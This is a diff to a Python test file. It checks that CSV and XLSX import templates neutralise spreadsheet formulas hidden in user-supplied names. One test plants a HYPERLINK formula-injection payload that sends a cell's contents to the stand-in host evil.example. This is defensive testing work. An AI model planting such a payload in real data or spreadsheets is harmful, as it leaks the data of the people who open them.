@@ -1,7 +1,7 @@
 """Formula strings are data (stored verbatim) and never formulas in an export (core.exports).
 
-No page or endpoint exports CSV or XLSX yet (the import templates and exports come with later
-issues); these tests pin the helper every export must use."""
+These tests pin the helper every export must use, and the one download there is so far: the import
+templates (imports/blanks.py), whose example rows carry the user's own names."""
 
 from __future__ import annotations
 
@@ -82,3 +82,25 @@ def test_formula_strings_are_stored_verbatim(bank, client_as):
         "enterprise_uscc": supplier.uscc, "role": "supplier", "source": "declared", "note": "=HYPERLINK(1)"})
     assert response.status_code == 302
     assert CircleMember.objects.get(enterprise=supplier).note == "=HYPERLINK(1)"
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_the_import_templates_never_carry_a_formula_from_the_users_own_names(bank, client_as, fmt):
+    """The templates' example rows name the user's own groups and enterprises: a name that starts like
+    a formula arrives as text (the XLSX has no formula cell; the CSV cell starts with an apostrophe)."""
+    group = bank.group_gy
+    group.name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    group.save(update_fields=["name"])
+    response = client_as(bank.rm_gy1).get(reverse("imports:template"), {"kind": "circle_members", "format": fmt})
+    assert response.status_code == 200
+    if fmt == "csv":
+        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
+        assert group.name not in cells and "'" + group.name in cells
+    else:
+        archive = zipfile.ZipFile(io.BytesIO(response.content))
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+        data = load_workbook(io.BytesIO(response.content)).worksheets[0]
+        texts = [cell for row in data.iter_rows(values_only=True) for cell in row]
+        assert group.name in texts
